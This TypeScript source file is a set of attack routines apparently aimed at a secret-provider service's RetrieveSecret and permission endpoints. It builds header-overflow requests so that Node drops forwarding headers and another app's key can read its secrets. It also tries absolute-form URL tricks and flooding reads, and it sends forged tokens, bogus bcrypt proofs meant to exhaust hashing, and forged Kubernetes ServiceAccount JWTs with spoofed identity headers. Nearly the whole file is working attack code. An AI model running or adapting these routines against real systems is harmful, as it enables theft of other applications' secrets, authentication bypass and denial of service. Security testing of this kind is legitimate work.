import { setTimeout as pause } from 'node:timers/promises';
import { AttackConnections, FORGED, post, type Outcomes, type Target } from './attack-connection';

/** Of Node's own; what comes beyond it, it drops without a word. */
const PAIRS = [90, 101, 500, 990, 994, 995, 996, 1_000, 1_001, 1_100, 2_000];

/** Asks again and again on kept connections; those that were cut are opened again. */
async function askAgain(
  target: Target,
  lines: number,
  next: (turn: number) => string,
  atMost = Infinity,
): Promise<Outcomes> {
  const all = new AttackConnections(target);
  let turn = 0;
  const line = async (): Promise<void> => {
    let connection = await all.connect();
    while (all.goesOn && turn < atMost) {
      if (connection?.isOpen !== true) {
        await pause(20);
        connection = await all.connect();
        continue;
      }
      const ended = pause(5_000, 'unanswered', { ref: false });
      const outcome = await Promise.race([connection.ask(next(turn++)), ended]);
      if (outcome === 'unanswered') {
        all.count('unanswered');
        connection.end();
      }
    }
  };
  await Promise.all(Array.from({ length: lines }, line));
  return all.end();
}

/**
 * From the address of a proven system-server: another app's key in a ProxyRequest, and behind so many headers that Node
 * drops the rest unseen, what would show that it was merely passed on.
 */
export function headerPairs(target: Target): Promise<Outcomes> {
  const proxyRequest = JSON.stringify({
    op: `RetrieveSecret?workspace=${target.victim?.workspace}`,
    datatype: 'secret',
    version: 'v1',
    group: 'secret.infisical',
    appkey: target.victim?.appKey,
    data: { name: 's0' },
  });
  return askAgain(target, 8, (turn) => {
    const pairs = PAIRS[turn % PAIRS.length] ?? 0;
    return [
      'POST /RetrieveSecret HTTP/1.1',
      'Host: x',
      'User-Agent: x',
      `Content-Length: ${proxyRequest.length}`,
      ...Array.from({ length: pairs }, () => 'A: b'),
      'Content-Type: application/json',
      `X-Bfl-User: ${target.victim?.user}`,
      ...(turn % 2 === 0 ? ['X-Forwarded-For: 10.0.0.1'] : ['Upgrade: websocket', 'Connection: upgrade']),
      '',
      proxyRequest,
    ].join('\r\n');
  });
}

/** Reads of one app by a target in absolute form, which counts for the same app. */
export function absoluteTargets(target: Target): Promise<Outcomes> {
  const app = target.apps[0];
  const read = (origin: string): string =>
    post(`${origin}/RetrieveSecret?workspace=${app?.workspace}`, app?.headers ?? {}, '{"name":"s0"}');
  const targets = ['http://x', 'https://x', 'HTTP://x:80', 'http://a@x', '//x'].map(read);
  return askAgain(target, 25, (turn) => targets[turn % targets.length] ?? '', 2_500);
}

/** The same reads in the ordinary form, far beyond the app's rate. */
export function throttledReads(target: Target): Promise<Outcomes> {
  const app = target.apps[0];
  const read = post(`/RetrieveSecret?workspace=${app?.workspace}`, app?.headers ?? {}, '{"name":"s0"}');
  return askAgain(target, 25, () => read);
}

/** Reads with tokens that are nobody's, each another one, so that nothing that is remembered helps. */
export function forgedTokens(target: Target): Promise<Outcomes> {
  return askAgain(target, 25, (turn) => {
    const fresh = Object.entries(FORGED).map(([name, token]) => [name, `${token.slice(0, -8)}${String(turn).padStart(8, '0')}`]); // prettier-ignore
    return post('/RetrieveSecret?workspace=w', Object.fromEntries(fresh) as Record<string, string>, '{"name":"s0"}'); // prettier-ignore
  });
}

/** Proofs that are wrong, of keys that some app has and of keys that nobody has; each costs a hash. */
function wrongProofs(target: Target, keyOf: (turn: number) => string): Promise<Outcomes> {
  const firstMs = Date.now() * 1_000;
  return askAgain(target, 40, (turn) => {
    // Each another one: a hash that was looked at once is not looked at again.
    const salt = `${firstMs + turn}`.padStart(21, '0');
    const body = JSON.stringify({
      app_key: keyOf(turn),
      timestamp: Math.floor(Date.now() / 1000),
      token: `$2b$10$${salt}O${'C'.repeat(31)}`,
      perm: { group: 'secret.infisical', dataType: 'secret', version: 'v1', ops: ['ListSecret'] },
    });
    return post('/permission/v1alpha1/access', {}, body);
  });
}

export const wrongProofsOfAnApp = (target: Target): Promise<Outcomes> =>
  wrongProofs(target, () => target.victim?.appKey ?? '');

export const wrongProofsOfNobody = (target: Target): Promise<Outcomes> =>
  wrongProofs(target, (turn) => `nobody_${turn}`);

/** Tokens that say of themselves that a ServiceAccount's they are, for our audience; only the cluster can tell that they are not. */
export function forgedServiceAccountTokens(target: Target): Promise<Outcomes> {
  const part = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url');
  const [app, user] = [target.victim?.app, target.victim?.user];
  return askAgain(target, 40, (turn) => {
    const sub = `system:serviceaccount:${app}-${user}:default`;
    const claims = { aud: ['olares-secret-provider'], exp: 4_000_000_000, sub };
    const headers = {
      authorization: `Bearer ${part({ alg: 'RS256' })}.${part(claims)}.forged-${Date.now()}-${turn}`,
      'x-bfl-user': `${user}`,
      'x-remote-user': sub,
    };
    return post(`/RetrieveSecret?workspace=${target.victim?.workspace}`, headers, '{"name":"s0"}');
  });
}
